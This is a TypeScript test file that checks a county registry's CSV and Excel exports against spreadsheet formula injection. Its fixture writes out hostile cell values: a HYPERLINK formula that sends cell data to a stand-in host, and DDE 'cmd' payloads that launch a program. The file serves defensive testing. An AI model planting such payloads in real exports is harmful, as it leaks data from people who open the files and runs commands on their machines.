import { CountyConfig } from '@anlian/protocol';
import { buildDemoCounty } from '@anlian/store';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../src/registry/csv-format.js';
import {
  DEVICE_SHEET,
  readRegistryFile,
  registryToCsv,
  registryToXlsx,
  rowsToCounty,
} from '../src/registry/registry-sheet.js';

/** A county whose names someone typed to attack whoever opens the export in Excel or WPS. */
function hostileCounty(): CountyConfig {
  const demo = CountyConfig.parse(buildDemoCounty());
  // Two institutions are enough (the whole demo county makes exceljs take seconds).
  const c = { ...demo, institutions: demo.institutions.slice(0, 2) };
  const inst = c.institutions[0];
  const device = inst?.gateways[0]?.devices[0];
  if (!inst || !device) throw new Error('demo county without devices');
  inst.name = '=HYPERLINK("http://198.51.100.1/?"&A1,"养老院")';
  inst.address = '+cmd|" /C calc"!A0';
  device.name = '@SUM(1+1)*cmd|" /C calc"!A0';
  device.location.floor = '-1';
  return c;
}

const HOSTILE = ['=HYPERLINK(', '+cmd|', '@SUM(', '-1'];

describe('registry exports neutralise formulas (OWASP CSV injection)', () => {
  it('CSV: no cell starts a formula; numbers stay numbers; an import restores the text', async () => {
    const c = hostileCounty();
    const csv = registryToCsv(c);
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
    expect(cells.filter((v) => /^[=+\-@\t\r]/.test(v) && !/^-?\d+(\.\d+)?$/.test(v))).toEqual([]);
    for (const h of HOSTILE)
      expect(
        cells.some((v) => v.startsWith(`'${h}`)),
        h,
      ).toBe(true);
    const back = await readRegistryFile(Buffer.from(csv), 'csv');
    const inst = rowsToCounty(c.county, back.devices, undefined).institutions[0];
    expect(inst?.name).toBe(c.institutions[0]?.name);
    expect(inst?.address).toBe(c.institutions[0]?.address);
    expect(inst?.gateways[0]?.devices[0]?.name).toBe(c.institutions[0]?.gateways[0]?.devices[0]?.name);
  });

  it('Excel: no text cell starts a formula, none is a formula cell; an import restores the text', async () => {
    const c = hostileCounty();
    const xlsx = await registryToXlsx(c);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const texts: string[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      );
    }
    expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(wb.getWorksheet(DEVICE_SHEET)?.getRow(2).getCell(2).value).toBe(`'${c.institutions[0]?.name}`);
    const back = await readRegistryFile(xlsx, 'xlsx');
    const again = rowsToCounty(c.county, back.devices, back.contacts);
    expect(again.institutions[0]?.name).toBe(c.institutions[0]?.name);
    expect(again.institutions[0]?.gateways[0]?.devices[0]?.location.floor).toBe('-1');
    // Phone numbers (`+86…`) survive the trip too.
    expect(again.institutions.flatMap((i) => i.contacts.map((k) => k.phone))).toEqual(
      c.institutions.flatMap((i) => i.contacts.map((k) => k.phone)),
    );
  });
});
